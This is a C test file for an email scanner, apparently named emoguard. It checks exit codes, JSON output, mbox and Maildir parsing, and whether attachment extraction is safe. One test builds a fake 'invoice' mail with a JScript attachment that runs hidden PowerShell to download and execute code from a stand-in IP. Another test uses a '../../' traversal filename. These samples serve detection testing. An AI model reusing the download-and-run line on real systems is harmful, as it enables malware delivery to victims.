/*
 * End-to-end tests of `emoguard scan`: the real binary on generated inputs, checking exit codes,
 * JSON Lines validity and fields, ordering with -j, unreadable inputs and --extract safety.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "mail_builder.h"
#include "testutil.h"

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

static char *tmp;

static int setup(void **st)
{
    (void)st;
    tmp = eg_test_tmpdir("cli");
    return tmp ? 0 : -1;
}

static int teardown(void **st)
{
    (void)st;
    eg_test_rmrf(tmp);
    free(tmp);
    return 0;
}

static void writef(const char *name, const char *content)
{
    char p[4096];
    snprintf(p, sizeof p, "%s/%s", tmp, name);
    assert_int_equal(eg_test_write_file(p, content, strlen(content)), 0);
}

/* runs emoguard with args (a shell fragment); returns exit code, stdout in *out */
static int emoguard(const char *args, char **out)
{
    char cmd[8192];
    snprintf(cmd, sizeof cmd, "cd '%s' && EG_NO_PROGRESS=1 '%s' %s 2>/dev/null", tmp, EG_BINARY, args);
    return eg_test_run(cmd, out, NULL);
}

static const char *CLEAN_MAIL =
    "From: Yamada <yamada@example.co.jp>\r\nTo: sato@example.jp\r\nSubject: meeting\r\n"
    "Date: Mon, 1 Jul 2024 10:00:00 +0900\r\nMessage-ID: <1@example.co.jp>\r\n"
    "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n"
    "Tuesday at 14:00 works for us.\r\n";

static void usage_errors_exit_3(void **st)
{
    (void)st;
    assert_int_equal(emoguard("scan", NULL), 3);
    assert_int_equal(emoguard("scan --format xml x.eml", NULL), 3);
    assert_int_equal(emoguard("scan --bogus x.eml", NULL), 3);
    assert_int_equal(emoguard("frobnicate", NULL), 3);
    assert_int_equal(emoguard("scan --help", NULL), 0);
}

static void clean_mail_json(void **st)
{
    (void)st;
    writef("clean.eml", CLEAN_MAIL);
    char *out = NULL;
    assert_int_equal(emoguard("scan --format json clean.eml", &out), 0);
    json_error_t je;
    json_t *j = json_loads(out, 0, &je);
    assert_non_null(j);
    assert_int_equal(json_integer_value(json_object_get(j, "schema_version")), 2);
    assert_string_equal(json_string_value(json_object_get(j, "verdict")), "clean");
    json_t *m = json_object_get(j, "mail");
    assert_string_equal(json_string_value(json_object_get(json_object_get(m, "from"), "address")),
                        "yamada@example.co.jp");
    assert_string_equal(json_string_value(json_object_get(m, "subject")), "meeting");
    assert_string_equal(json_string_value(json_object_get(m, "message_id")), "<1@example.co.jp>");
    json_t *objs = json_object_get(j, "objects");
    assert_true(json_array_size(objs) >= 1);
    json_t *root = json_array_get(objs, 0);
    assert_string_equal(json_string_value(json_object_get(root, "type")), "mail");
    assert_int_equal(strlen(json_string_value(json_object_get(root, "sha256"))), 64);
    json_decref(j);
    free(out);
}

static void empty_and_junk_inputs(void **st)
{
    (void)st;
    writef("empty.eml", "");
    char junk[4096];
    for (size_t i = 0; i < sizeof junk - 1; i++)
        junk[i] = (char)(1 + (i * 7919) % 255);
    junk[sizeof junk - 1] = 0;
    writef("junk.bin", junk);
    char *out = NULL;
    assert_int_equal(emoguard("scan --format json empty.eml", &out), 0);
    assert_non_null(strstr(out, "INPUT.EMPTY"));
    free(out);
    int rc = emoguard("scan --format json junk.bin", &out);
    assert_true(rc >= 0 && rc <= 2);
    assert_non_null(strstr(out, "INPUT.NOT_MAIL"));
    free(out);
}

static void unreadable_inputs_exit_4(void **st)
{
    (void)st;
    assert_int_equal(emoguard("scan does-not-exist.eml", NULL), 4);
    assert_int_equal(emoguard("scan /dev/null", NULL), 4);
    writef("ok.eml", CLEAN_MAIL);
    /* one good, one missing: still 4, and the good one is still reported */
    char *out = NULL;
    assert_int_equal(emoguard("scan --format json ok.eml missing.eml", &out), 4);
    assert_non_null(strstr(out, "\"verdict\":\"clean\""));
    free(out);
}

static void directory_and_parallel_order(void **st)
{
    (void)st;
    char d[4096];
    snprintf(d, sizeof d, "%s/many", tmp);
    mkdir(d, 0700);
    for (int i = 0; i < 30; i++) {
        char name[64];
        snprintf(name, sizeof name, "many/m%02d.eml", i);
        writef(name, CLEAN_MAIL);
    }
    char *out = NULL;
    assert_int_equal(emoguard("scan -j 2 --format json many", &out), 0);
    int lines = 0, last = -1;
    for (char *p = out; (p = strstr(p, "\"source\":\"many/m")); p++) {
        int n = atoi(p + strlen("\"source\":\"many/m"));
        assert_true(n > last); /* input order kept with -j 2 */
        last = n;
        lines++;
    }
    assert_int_equal(lines, 30);
    free(out);
}

static void mbox_and_stdin(void **st)
{
    (void)st;
    char mbox[8192];
    snprintf(mbox, sizeof mbox, "From a@b Mon Jul  1 10:00:00 2024\n%s\nFrom c@d Mon Jul  1 10:01:00 2024\n%s\n",
             CLEAN_MAIL, CLEAN_MAIL);
    writef("box.mbox", mbox);
    char *out = NULL;
    assert_int_equal(emoguard("scan --format json box.mbox", &out), 0);
    assert_non_null(strstr(out, "box.mbox#1"));
    assert_non_null(strstr(out, "box.mbox#2"));
    free(out);
    writef("in.eml", CLEAN_MAIL);
    assert_int_equal(emoguard("scan --format json - < in.eml", &out), 0);
    assert_non_null(strstr(out, "\"source\":\"-\""));
    free(out);
}

static void extract_writes_safe_names_0600(void **st)
{
    (void)st;
    const char *mail =
        "From: a@example.jp\r\nTo: b@example.jp\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\n"
        "Content-Type: text/plain\r\n\r\nsee attachment\r\n--XX\r\n"
        "Content-Type: application/octet-stream; name=\"../../escape.txt\"\r\n"
        "Content-Disposition: attachment; filename=\"../../escape.txt\"\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\naGVsbG8gd29ybGQK\r\n--XX--\r\n";
    writef("att.eml", mail);
    char *out = NULL;
    int rc = emoguard("scan --extract out att.eml", &out);
    free(out);
    assert_true(rc >= 0 && rc <= 2);
    char cmd[4096];
    snprintf(cmd, sizeof cmd, "cd '%s' && ls out && ls .. | grep -c escape", tmp);
    assert_int_equal(eg_test_run(cmd, &out, NULL), 1); /* grep found nothing outside */
    assert_non_null(strstr(out, "escape.txt.bin"));
    assert_null(strstr(out, "/"));
    free(out);
    snprintf(cmd, sizeof cmd, "cd '%s/out' && stat -c %%a *escape*", tmp);
    assert_int_equal(eg_test_run(cmd, &out, NULL), 0);
    assert_string_equal(out, "600\n");
    free(out);
}

/* What is declared a mail (a .eml file, an mbox or Maildir entry) is parsed as one even when
 * content sniffing would not call it a mail: here a first header line that is no field. The
 * script in the base64 part is only seen when the mail is parsed. */
static void declared_mails_are_parsed(void **st)
{
    (void)st;
    static const char js[] = "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden "
                             "-c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\");";
    char *b64 = eg_mb_base64((const uint8_t *)js, sizeof js - 1, true);
    char mail[8192];
    snprintf(mail, sizeof mail,
             "this first line is no header field\n"
             "From: a@example.net\nTo: b@example.jp\nSubject: invoice\nMIME-Version: 1.0\n"
             "Content-Type: multipart/mixed; boundary=\"XX\"\n\n--XX\nContent-Type: text/plain\n\n"
             "see attachment\n--XX\nContent-Type: application/octet-stream; name=\"inv.js\"\n"
             "Content-Disposition: attachment; filename=\"inv.js\"\n"
             "Content-Transfer-Encoding: base64\n\n%s\n--XX--\n",
             b64);
    free(b64);
    writef("odd.eml", mail);
    char *out = NULL;
    assert_int_equal(emoguard("scan --format json odd.eml", &out), 2);
    assert_non_null(strstr(out, "MAIL.HEADER_MALFORMED"));
    assert_null(strstr(out, "INPUT.NOT_MAIL"));
    free(out);
    char mbox[9000];
    snprintf(mbox, sizeof mbox, "From a@b Mon Jul  1 10:00:00 2024\n%s\n", mail);
    writef("odd.mbox", mbox);
    assert_int_equal(emoguard("scan --format json odd.mbox", &out), 2);
    free(out);
    char d[4096];
    snprintf(d, sizeof d, "%s/md", tmp);
    const char *const one[] = {mail};
    assert_int_equal(eg_mb_maildir(d, one, 1), 0);
    assert_int_equal(emoguard("scan --format json md", &out), 2);
    free(out);
    /* the same bytes under a name that says nothing: sniffed, and not taken for a mail */
    writef("odd.dat", mail);
    assert_true(emoguard("scan --format json odd.dat", &out) < 2);
    assert_non_null(strstr(out, "INPUT.NOT_MAIL"));
    free(out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(usage_errors_exit_3),
        cmocka_unit_test(clean_mail_json),
        cmocka_unit_test(empty_and_junk_inputs),
        cmocka_unit_test(unreadable_inputs_exit_4),
        cmocka_unit_test(directory_and_parallel_order),
        cmocka_unit_test(mbox_and_stdin),
        cmocka_unit_test(declared_mails_are_parsed),
        cmocka_unit_test(extract_writes_safe_names_0600),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
